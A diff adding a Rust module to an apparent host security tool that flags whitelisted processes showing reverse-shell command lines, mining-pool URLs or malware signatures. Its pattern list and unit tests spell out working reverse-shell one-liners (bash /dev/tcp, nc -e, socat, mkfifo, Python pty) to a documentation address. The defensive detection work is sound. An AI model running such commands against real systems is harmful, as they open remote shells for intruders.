@@ -0,0 +1,209 @@
+use regex::Regex;
+use serde::{Deserialize, Serialize};
+use std::collections::{HashMap, HashSet};
+use std::path::Path;
+use std::sync::OnceLock;
+
+use crate::config::WhitelistConfig;
+use crate::denylist::executable_sha256;
+use crate::file_scanner::MalwareSignature;
+use crate::process_monitor::ProcessInfo;
+
+/// Strength of a reverse shell in the command line
+const REVERSE_SHELL_STRENGTH: f32 = 1.0;
+/// Strength of an explicit mining pool URL in the command line
+const MINING_POOL_STRENGTH: f32 = 0.9;
+
+/// Command-line shapes of interactive shells wired to a socket
+const REVERSE_SHELL_PATTERNS: &[&str] = &[
+    r"/dev/(tcp|udp)/[^/\s]+/\d+",
+    r"\b(nc|ncat|netcat)\b.*\s-[a-z]*[ec]\s*(/bin/)?(ba|z|da)?sh\b",
+    r"\bsocat\b.*\bexec:.*\b(ba|z|da)?sh\b",
+    r"\bmkfifo\b.*\|\s*(nc|ncat|netcat)\b",
+    r"socket\.socket.*(pty\.spawn|subprocess\.call|os\.dup2)",
+    r"\bfsockopen\s*\(",
+];
+
+/// What the whitelist does when a whitelisted process shows strong malware evidence
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum WhitelistOverrideAction {
+    Off,  // Whitelisted always means skip
+    #[default]
+    Notify,  // Report instead of skipping
+    Enforce,  // Stop it, through its manager when it has one
+}
+
+/// Evidence independent of CPU behaviour that outranks a whitelist match
+#[derive(Debug, Clone, PartialEq)]
+pub struct StrongSignal {
+    pub description: String,
+    pub strength: f32,
+}
+
+/// Re-checks whitelisted processes for signals a legitimate app never shows, so a
+/// compromised (or swapped-out) whitelisted binary can't hide behind its entry.
+/// The default is notify; `off` leaves whitelist matches alone.
+#[derive(Debug, Clone)]
+pub struct WhitelistOverride {
+    action: WhitelistOverrideAction,
+    min_strength: f32,
+    signatures: Vec<MalwareSignature>,
+    // (pid, start_time) -> executable hash, only filled when a signature has a hash
+    hash_cache: HashMap<(i32, u64), Option<String>>,
+}
+
+impl Default for WhitelistOverride {
+    fn default() -> Self {
+        Self::new(&WhitelistConfig::default(), Vec::new())
+    }
+}
+
+impl WhitelistOverride {
+    pub fn new(config: &WhitelistConfig, signatures: Vec<MalwareSignature>) -> Self {
+        Self {
+            action: config.override_action,
+            min_strength: config.override_min_strength,
+            signatures,
+            hash_cache: HashMap::new(),
+        }
+    }
+
+    pub fn action(&self) -> WhitelistOverrideAction {
+        self.action
+    }
+
+    /// The strongest signal at or above the override threshold, if any
+    pub fn check(&mut self, process: &ProcessInfo) -> Option<StrongSignal> {
+        if self.action == WhitelistOverrideAction::Off {
+            return None;
+        }
+        let mut signals = Vec::new();
+        if let Some(pattern) = reverse_shell_pattern(&process.command_line) {
+            signals.push(StrongSignal {
+                description: format!("reverse shell in command line ({})", pattern),
+                strength: REVERSE_SHELL_STRENGTH,
+            });
+        }
+        if let Some(url) = mining_pool_url(&process.command_line) {
+            signals.push(StrongSignal {
+                description: format!("mining pool {} in command line", url),
+                strength: MINING_POOL_STRENGTH,
+            });
+        }
+        if let Some(signature) = self.matching_signature(process) {
+            signals.push(StrongSignal {
+                description: format!("executable matches malware signature {}", signature.name),
+                strength: signature.threat_level,
+            });
+        }
+        signals.into_iter()
+            .filter(|s| s.strength >= self.min_strength)
+            .max_by(|a, b| a.strength.total_cmp(&b.strength))
+    }
+
+    /// Same name/path/hash rules as the file scanner, applied to the running executable
+    fn matching_signature(&mut self, process: &ProcessInfo) -> Option<&MalwareSignature> {
+        if process.binary_path.is_empty() {
+            return None;
+        }
+        let file_name = Path::new(&process.binary_path).file_name()
+            .map(|n| n.to_string_lossy().to_string())
+            .unwrap_or_default();
+        let hash = if self.signatures.iter().any(|s| s.file_hash.is_some()) {
+            self.hash_cache.entry((process.pid, process.start_time))
+                .or_insert_with(|| executable_sha256(process))
+                .clone()
+        } else {
+            None
+        };
+        self.signatures.iter().find(|s| {
+            s.file_name_pattern.as_ref().is_some_and(|p| p.is_match(&file_name))
+                || s.path_pattern.as_ref().is_some_and(|p| p.is_match(&process.binary_path))
+                || s.file_hash.as_ref().zip(hash.as_ref()).is_some_and(|(want, have)| want.eq_ignore_ascii_case(have))
+        })
+    }
+
+    /// Drop cached hashes of processes that are gone
+    pub fn retain_live(&mut self, processes: &[ProcessInfo]) {
+        let live: HashSet<(i32, u64)> = processes.iter().map(|p| (p.pid, p.start_time)).collect();
+        self.hash_cache.retain(|key, _| live.contains(key));
+    }
+}
+
+/// The reverse-shell pattern `command_line` matches, if any
+pub fn reverse_shell_pattern(command_line: &str) -> Option<&'static str> {
+    static COMPILED: OnceLock<Vec<(Regex, &'static str)>> = OnceLock::new();
+    let compiled = COMPILED.get_or_init(|| REVERSE_SHELL_PATTERNS.iter()
+        .map(|p| (Regex::new(&format!("(?i){}", p)).expect("valid reverse shell pattern"), *p))
+        .collect());
+    compiled.iter().find(|(regex, _)| regex.is_match(command_line)).map(|(_, p)| *p)
+}
+
+/// A stratum pool URL in `command_line`: miners' unmistakable calling card
+pub fn mining_pool_url(command_line: &str) -> Option<&str> {
+    command_line.split_whitespace()
+        .flat_map(|arg| arg.split('='))
+        .find(|part| part.to_ascii_lowercase().starts_with("stratum+"))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn config(action: WhitelistOverrideAction, min_strength: f32) -> WhitelistConfig {
+        WhitelistConfig { override_action: action, override_min_strength: min_strength, ..Default::default() }
+    }
+
+    fn process(binary_path: &str, command_line: &str) -> ProcessInfo {
+        ProcessInfo {
+            pid: i32::MAX,
+            binary_path: binary_path.to_string(),
+            command_line: command_line.to_string(),
+            ..Default::default()
+        }
+    }
+
+    #[test]
+    fn recognizes_reverse_shells_and_pools() {
+        for cmd in [
+            "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
+            "nc -e /bin/sh 203.0.113.7 4444",
+            "ncat 203.0.113.7 4444 -e /bin/bash",
+            "socat tcp:203.0.113.7:4444 exec:'bash -li',pty,stderr",
+            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f",
+            "python3 -c import socket,os,pty;s=socket.socket();s.connect(('203.0.113.7',4444));os.dup2(s.fileno(),0);pty.spawn('sh')",
+        ] {
+            assert!(reverse_shell_pattern(cmd).is_some(), "{}", cmd);
+        }
+        for cmd in ["nc -z db.internal 5432", "node /srv/app/server.js --port 3000", "bash -c 'echo hi > /dev/null'"] {
+            assert_eq!(reverse_shell_pattern(cmd), None, "{}", cmd);
+        }
+
+        assert_eq!(mining_pool_url("/usr/bin/node -o stratum+tcp://pool.example:3333 -u x"), Some("stratum+tcp://pool.example:3333"));
+        assert_eq!(mining_pool_url("app --url=STRATUM+SSL://pool:443"), Some("STRATUM+SSL://pool:443"));
+        assert_eq!(mining_pool_url("node dist/pool-manager.js"), None);
+    }
+
+    #[test]
+    fn threshold_and_action_gate_the_override() {
+        let miner_name = crate::signatures::builtin_signature_specs().into_iter()
+            .find(|s| s.name == "crypto_miner_pattern").unwrap()
+            .compile().unwrap();
+        let mut overrides = WhitelistOverride::new(&config(WhitelistOverrideAction::Notify, 0.8), vec![miner_name.clone()]);
+
+        let shell = process("/usr/bin/node", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1");
+        assert_eq!(overrides.check(&shell).unwrap().strength, 1.0);
+        let renamed = process("/opt/app/xmrig", "/opt/app/xmrig");
+        assert!(overrides.check(&renamed).unwrap().description.contains("crypto_miner_pattern"));
+        assert_eq!(overrides.check(&process("/usr/bin/node", "node server.js")), None);
+
+        // The 0.9 signature falls below a stricter threshold; the reverse shell doesn't
+        let mut strict = WhitelistOverride::new(&config(WhitelistOverrideAction::Notify, 0.95), vec![miner_name.clone()]);
+        assert_eq!(strict.check(&renamed), None);
+        assert!(strict.check(&shell).is_some());
+
+        let mut off = WhitelistOverride::new(&config(WhitelistOverrideAction::Off, 0.0), vec![miner_name]);
+        assert_eq!(off.check(&shell), None);
+    }
+}